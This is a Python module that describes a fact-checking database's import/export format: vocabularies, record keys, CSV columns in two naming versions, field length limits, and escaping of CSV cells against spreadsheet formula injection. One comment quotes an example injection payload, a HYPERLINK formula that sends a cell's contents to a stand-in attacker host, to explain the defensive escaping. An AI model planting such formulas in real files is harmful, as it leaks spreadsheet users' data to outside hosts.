"""The interchange format described: its vocabularies, the keys of each record in the order an export
writes them, the CSV columns in both spellings, the longest text each field takes, and how a CSV cell holds
a list or a text that a spreadsheet would run as a formula. No reading, no writing, no database.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from factbase.models import Actor, Claim, Outlet, Review, Source, Tag
from factbase.models.limits import (
    CLAIM_TEXT_MAX_LENGTH,
    NAME_MAX_LENGTH,
    NOTE_MAX_LENGTH,
    PASSAGE_MAX_LENGTH,
    SOURCE_TEXT_MAX_LENGTH,
    SUMMARY_MAX_LENGTH,
)


# The vocabularies (kept in step with the models by tests/factbase/test_interchange.py).
CLAIM_KINDS = ("direct_quote", "paraphrase")
PRECISIONS = ("day", "month", "year")
STATUSES = ("unverified", "verified", "disputed", "rejected")
ACTOR_KINDS = ("person", "organization")
OUTLET_KINDS = ("newspaper", "magazine", "broadcaster", "news_agency", "website", "social_network",
                "press_conference", "event", "other")
RATINGS = ("false", "mostly_false", "mixed", "mostly_true", "true", "unsupported", "misleading")
RELATION_TYPES = ("same_statement", "contradicts", "responds_to", "corrects", "repeats")
#: a directed relation type as the claim it points at sees it (factbase.models.relation.INVERSE)
RELATION_INVERSES = {"responds_to": "responded_to_by", "corrects": "corrected_by", "repeats": "repeated_by"}
RELATION_SHOWN_TYPES = (*RELATION_TYPES, *RELATION_INVERSES.values())
RELATIONS_MAX_COUNT = 1000  # relations one record may list

FORMATS = ("ndjson", "json", "csv")
MEDIA_TYPES = {"ndjson": "application/x-ndjson", "json": "application/json", "csv": "text/csv"}
EXTENSIONS = {".ndjson": "ndjson", ".jsonl": "ndjson", ".json": "json", ".csv": "csv"}

# Keys in the order an export writes them.
CLAIM_KEYS = ("uid", "text", "kind", "speaker", "speaker_role", "stated_on", "stated_on_precision", "outlet",
              "source", "span", "status", "status_note", "tags", "reviews", "relations")
CLAIM_IMPORT_KEYS = ("stated", "passage", "note", "id", "url")
ACTOR_KEYS = ("name", "kind", "aliases", "description", "wikidata_id")
OUTLET_KEYS = ("name", "kind", "url", "description")
SOURCE_KEYS = ("url", "title", "published_on", "language", "authors", "outlet", "text")
SOURCE_IMPORT_KEYS = ("text_file",)
TAG_KEYS = ("slug", "name", "description")
REVIEW_KEYS = ("rating", "rating_text", "summary", "reviewed_on", "reviewer", "source")
SPAN_KEYS = ("start", "end", "exact")
RELATION_KEYS = ("type", "claim")

OUTLET_V2_KEYS = ("website",)  # the version-2 names of OUTLET_KEYS ("url"), read on import
SOURCE_EXTRA_KEYS = (*SOURCE_IMPORT_KEYS, "document_url")  # and of SOURCE_KEYS ("url")

CSV_COLUMNS = (
    "uid", "text", "kind",
    "speaker", "speaker_kind", "speaker_aliases", "speaker_description", "speaker_wikidata_id",
    "speaker_role", "stated_on", "stated_on_precision",
    "outlet", "outlet_kind",
    "source_url", "source_title", "source_published_on", "source_language", "source_authors", "source_outlet",
    "span_start", "span_end", "span_exact",
    "status", "status_note", "tags", "relations",
)
CSV_REQUIRED = ("text", "speaker", "speaker_kind")
LIST_SEPARATOR = "|"

# --- the two spellings of the format ---------------------------------------------------------------
#
# Version 1 (above; what ``export_claims`` and /api/v1/ write) names a source's address and an outlet's
# website ``url``, and a CSV column of a related record's field ``<record>_<field>`` (``speaker`` for its
# name). Version 2 (what /api/v2/ writes) follows the API's naming rule (README, "Naming"): ``url`` is
# only ever a record's own address in the API, so the source's is ``document_url`` and the outlet's
# ``website``, as in the API's JSON; a CSV column is the field's path in the record, joined by dots
# (``speaker.name``, ``source.document_url``), as in the CSV of every other list. The importer reads
# both, and refuses a record that gives both names of one field with different values.
SPELLINGS = ("v1", "v2")
#: a field's version-2 name, by (record, version-1 name)
V2_KEYS = {"outlet": {"url": "website"}, "source": {"url": "document_url"}}
#: each CSV column's version-2 name: the field's path in the record
CSV_COLUMNS_V2_BY_V1 = {
    "speaker": "speaker.name", "speaker_kind": "speaker.kind", "speaker_aliases": "speaker.aliases",
    "speaker_description": "speaker.description", "speaker_wikidata_id": "speaker.wikidata_id",
    "outlet": "outlet.name", "outlet_kind": "outlet.kind",
    "source_url": "source.document_url", "source_title": "source.title", "source_published_on": "source.published_on",
    "source_language": "source.language", "source_authors": "source.authors", "source_outlet": "source.outlet.name",
    "span_start": "span.start", "span_end": "span.end", "span_exact": "span.exact",
}
CSV_COLUMNS_V2 = tuple(CSV_COLUMNS_V2_BY_V1.get(name, name) for name in CSV_COLUMNS)
#: columns a CSV may have that an import ignores: the claim's id and URL in the database it came from
#: (the CSV of ``GET /api/.../claims/?format=csv`` gives them); a claim is known across databases by its uid
CSV_IGNORED_COLUMNS = ("id", "url")
#: a column's version-1 name, by its name in either version
CSV_COLUMNS_V1_BY_NAME = {**{name: name for name in CSV_COLUMNS},
                          **{new: old for old, new in CSV_COLUMNS_V2_BY_V1.items()}}
CSV_KNOWN_COLUMNS = frozenset((*CSV_COLUMNS_V1_BY_NAME, *CSV_IGNORED_COLUMNS))

WIKIDATA_ID = re.compile(r"Q[1-9][0-9]*\Z")
SLUG = re.compile(r"[-a-zA-Z0-9_]+\Z")
ASCII_DIGITS = re.compile(r"[0-9]+")
ISO_DATE = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")  # [0-9], not \d: "２０２２" is no year here
YEAR_OR_MONTH = re.compile(r"([0-9]{4})(?:-([0-9]{2}))?")


def _max_length(model, name: str) -> int:
    return model._meta.get_field(name).max_length


# The longest text each field takes: the limits of factbase.models.limits, and the models' own
# max_length, so that a record is refused here, with its line, rather than by the database.
MAX_LENGTHS = {
    "claim.text": CLAIM_TEXT_MAX_LENGTH,
    "claim.passage": PASSAGE_MAX_LENGTH,
    "claim.span.exact": SOURCE_TEXT_MAX_LENGTH,  # a slice of the text (a quote's may be longer than the quote)
    "claim.status_note": NOTE_MAX_LENGTH,
    "claim.speaker_role": _max_length(Claim, "speaker_role"),
    "claim.stated": 200,  # a date as a source words it: "last Friday", "in March 2019"
    "actor.name": NAME_MAX_LENGTH,
    "actor.description": _max_length(Actor, "description"),
    "actor.wikidata_id": _max_length(Actor, "wikidata_id"),
    "name": NAME_MAX_LENGTH,  # an alias, an author
    "outlet.name": _max_length(Outlet, "name"),
    "outlet.url": _max_length(Outlet, "url"),
    "outlet.description": _max_length(Outlet, "description"),
    "source.url": _max_length(Source, "url"),
    "source.title": _max_length(Source, "title"),
    "source.language": _max_length(Source, "language"),
    "source.text": SOURCE_TEXT_MAX_LENGTH,
    "source.text_file": 1000,  # a file's name
    "tag.slug": _max_length(Tag, "slug"),
    "tag.name": _max_length(Tag, "name"),
    "tag.description": _max_length(Tag, "description"),
    "review.rating_text": _max_length(Review, "rating_text"),
    "review.summary": SUMMARY_MAX_LENGTH,
}


def split_list(cell: str) -> list[str]:
    """A CSV cell of several values: ``a|b`` is two; ``\\|`` is a ``|`` and ``\\\\`` a backslash within one."""
    if cell == "":
        return []
    items, current, escaped = [], [], False
    for char in cell:
        if escaped:
            current.append(char)
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == LIST_SEPARATOR:
            items.append("".join(current))
            current = []
        else:
            current.append(char)
    if escaped:
        current.append("\\")
    items.append("".join(current))
    return items


def join_list(items: Iterable[str]) -> str:
    return LIST_SEPARATOR.join(item.replace("\\", "\\\\").replace(LIST_SEPARATOR, "\\" + LIST_SEPARATOR)
                               for item in items)


# Spreadsheets run a cell that begins with = + - @ (and, in some, a tab or a carriage return before one)
# as a formula: a claim's text such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run on
# the reader's machine (OWASP, "CSV Injection"). Every CSV Factbase writes therefore prefixes such a cell
# with an apostrophe, which spreadsheets read as "this cell is text". To round-trip, a value that itself
# begins with the apostrophe followed by one of those characters or by another apostrophe gets one too,
# and reading a CSV drops the first apostrophe of a cell that begins with an apostrophe and then one of
# them. Any other cell is read as written: ``'Tis`` is ``'Tis``.
CSV_FORMULA_STARTS = frozenset("=+-@\t\r")
CSV_TEXT_PREFIX = "'"
_CSV_ESCAPED_STARTS = CSV_FORMULA_STARTS | {CSV_TEXT_PREFIX}
CSV_SUSPECT_STARTS = tuple(_CSV_ESCAPED_STARTS)


def csv_escape_cell(value: str) -> str:
    """A value as a CSV cell that no spreadsheet runs as a formula (see ``CSV_FORMULA_STARTS``)."""
    if value.startswith(CSV_SUSPECT_STARTS) and (value[0] != CSV_TEXT_PREFIX or value[1:2] in _CSV_ESCAPED_STARTS):
        return CSV_TEXT_PREFIX + value
    return value


def csv_unescape_cell(cell: str) -> str:
    """The value a CSV cell stands for: ``csv_escape_cell`` undone; any other cell as written."""
    if cell.startswith(CSV_TEXT_PREFIX) and cell[1:2] in _CSV_ESCAPED_STARTS:
        return cell[1:]
    return cell
